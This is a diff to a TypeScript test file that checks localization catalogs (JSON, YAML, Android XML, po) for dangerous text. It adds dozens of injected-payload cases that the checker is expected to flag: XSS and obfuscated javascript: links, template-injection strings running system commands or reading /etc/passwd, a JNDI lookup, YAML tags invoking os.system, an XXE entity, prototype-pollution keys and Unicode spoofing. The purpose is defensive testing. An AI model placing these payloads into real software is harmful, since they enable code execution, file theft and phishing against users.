@@ -67,6 +67,8 @@ const inStrings = on('en.lproj/Localizable.strings', strings);
 const inProperties = on('messages_en.properties', properties);
 const inXml = on('res/values/strings.xml', xml);
 
+const withText = (text: string): Attack => inJson('"plain":', `"more": ${JSON.stringify(text)},\n  "plain":`);
+
 /** A text that a program cannot use, shows wrong or runs, or a file that it cannot read. */
 const attacks: Readonly<Record<string, Attack>> = {
   'JSON: a placeholder less': inJson('{name}', 'you'),
@@ -117,6 +119,57 @@ const attacks: Readonly<Record<string, Attack>> = {
     '  <string name="plain">',
     '  <string name="more">&lt;script>x&lt;/script></string>\n  <string name="plain">',
   ),
+  'JSON: a new text with a form': withText('<form action="https://x.io"><input name=p></form>'),
+  'JSON: a new text with an object': withText('<object data="x"></object>'),
+  'JSON: a new text with a style for all': withText('<style>*{display:none}</style>'),
+  'JSON: a new text with a style that loads': withText('<p style="background:url(//x.io)">x</p>'),
+  'JSON: a new text with a style over all': withText('<p style="position: fixed">x</p>'),
+  'JSON: a new text with another style sheet': withText('<link rel=stylesheet href=//x.io>'),
+  'JSON: a new text with a page in the page': withText('<portal src=x>'),
+  'JSON: a new text with a picture from elsewhere': withText('<img src="https://x.io/x.gif">'),
+  'JSON: a new text with an address that runs, with a tab': withText('<a href="java\tscript:x">a</a>'),
+  'JSON: a new text with an address that runs, by a number': withText('<a href="&#106;avascript:x">a</a>'),
+  'JSON: a new text with an address that runs, by a number of sixteens': withText('<a href="&#x6a;avascript:x">a</a>'),
+  'JSON: a new text with an address that runs, by a colon in words': withText(
+    '<a href="javascript&colon;alert(1)">a</a>',
+  ),
+  'JSON: a new text with an address that runs, in Markdown': withText('[a](vb&Tab;script:x)'),
+  'JSON: a new text with a picture that is a page': withText('<img src="data:image/svg+xml;base64,PHN2Zz4=">'),
+  'JSON: a new text with a part of a picture from elsewhere': withText(
+    '<svg><use href="data:image/svg+xml,x#x"></use></svg>',
+  ),
+  'JSON: a new text with an address of a blob': withText('<a href="blob:https://x/1">x</a>'),
+  'JSON: a new text with an expression of Angular': withText("{{constructor.constructor('alert(1)')()}}"),
+  'JSON: a new text with an expression of Vue': withText('{{ _c.constructor(1)() }}'),
+  'JSON: a new text with an expression of Jinja': withText('{{ config.__class__ }}'),
+  'JSON: a new text with a tag of Jinja': withText('{% include "/etc/passwd" %}'),
+  'JSON: a new text with code of ERB': withText('<%= system(1) %>'),
+  'JSON: a new text with code of Ruby': withText('#{system(1)}'),
+  'JSON: a new text with code of a shell in Ruby': withText('#{`id`}'),
+  'JSON: a new text with an expression of JavaScript': withText('${process.env.SECRET}'),
+  'JSON: a new text with a call in JavaScript': withText('${fetch(1)}'),
+  'JSON: a new text with a look-up of Java': withText('${jndi:ldap://x.io/a}'),
+  'JSON: a new text with code of PHP': withText('<?php system(1); ?>'),
+  'JSON: a new text with short code of PHP': withText('<?= $secret ?>'),
+  'JSON: a new text with an order to the server': withText('<!--#exec cmd="id" -->'),
+  'JSON: a new text with letters turned round': withText('Pay \u202e001\u202c now'),
+  'JSON: a new text with letters turned the other way': withText('Pay \u202d001\u202c now'),
+  'JSON: a new text with something invisible in a word': withText('pay\u200bpal'),
+  'JSON: a new text with an address that looks like another': withText('Go to https://\u0430pple.com'),
+  'JSON: a changed text with code of ERB': inJson('Nothing here yet.', '<%= system(1) %>'),
+  'JSON: a key of every object': inJson('"plain":', '"__proto__": { "x": "1" },\n  "plain":'),
+  'JSON: a key that makes objects': inJson('"plain":', '"constructor": { "prototype": "1" },\n  "plain":'),
+  'JSON: a key with a script': inJson('"plain":', '"<script>x</script>": "x",\n  "plain":'),
+  'YAML: a new text with code of ERB': inYaml('  plain:', '  more: "<%= `id` %>"\n  plain:'),
+  'YAML: a tag that makes code': inYaml('"Nothing here yet."', '!!js/function "function () {}"'),
+  'YAML: a tag that runs': inYaml('"Nothing here yet."', '!!python/object/apply:os.system ["id"]'),
+  'Android: an entity that is another file': {
+    path: `${folder}/res/values/strings.xml`,
+    before: xml,
+    after: `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${xml.replace('Nothing', '&x;')}`,
+  },
+  'Android: another file included': inXml('<string name="plain">', '<xi:include href="x" />\n  <string name="plain">'),
+  'po: a width that is filled in': inPo('Start von %s', 'Start von %*s'),
   'JSON: a list for a text': inJson('"Nothing here yet."', '["Nothing", "here"]'),
   'JSON: a number for a text': inJson('"Nothing here yet."', '1'),
   'JSON: nothing for a text': inJson('"Nothing here yet."', 'null'),
@@ -185,6 +238,18 @@ describe('a catalog', () => {
     assert.deepEqual(await runChecks([copyCatalog], { base, head }), []);
   });
 
+  it('says of what hides which sign it is, and of a key why it has to be another', async () => {
+    const messagesOf = async ({ path, before, after }: Attack): Promise<readonly string[]> =>
+      (await runChecks([copyCatalog], { base: { [path]: before }, head: { [path]: after } })).map(
+        (each) => each.message,
+      );
+    assert.deepEqual(await messagesOf(withText('pay\u200bpal')), [
+      '“more” shows readers something else than what stands there: "\\u200b". Write it anew by hand.',
+    ]);
+    const [message = ''] = await messagesOf(inJson('"plain":', '"__proto__": { "x": "1" },\n  "plain":'));
+    assert.match(message, /has “__proto__” for a key, .* Give it another name\.$/);
+  });
+
   it('is passed where the texts alone are others', async () => {
     for (const { path, before, after } of [
       inJson('Nothing here yet.', 'Nothing to see yet, sorry.'),
@@ -193,6 +258,12 @@ describe('a catalog', () => {
       inJson('Nothing here yet.', 'Learn JavaScript: the basics, and turn notifications on = off.'),
       inYaml('Nothing here yet.', 'Nothing to see: yet'),
       inYaml('Nothing here yet.', 'No'),
+      withText('{{ count, number(minimumFractionDigits: 2) }} of {{total}}, for <b>{name}</b>'),
+      withText('<%= count %> of <%- total.all %>, from Ada <%{address}>'),
+      withText('See <a href="https://x.io/a(b)?c=1&d=2">it</a> or [ask](mailto:a@b.io), a <link>link</link>.'),
+      withText('<span style="color: red">Sale</span> ${price} #{id} $t(common.save) – 5 < 6 % 2'),
+      withText('Straße\u00ad n\u200b, می\u200cخواهم, 👩\u200d🚀, \u2067عربي\u2069, https://пример.рф/a'),
+      withText('<img src="/a.png" alt="a"> and <img src="data:image/png;base64,AAAA">'),
       inPo('Start von %s', '%s hat einen Start'),
       inFtl('Home of', 'The home of'),
       inStrings('%1$d of %2$d', '%2$d has %1$d of its'),
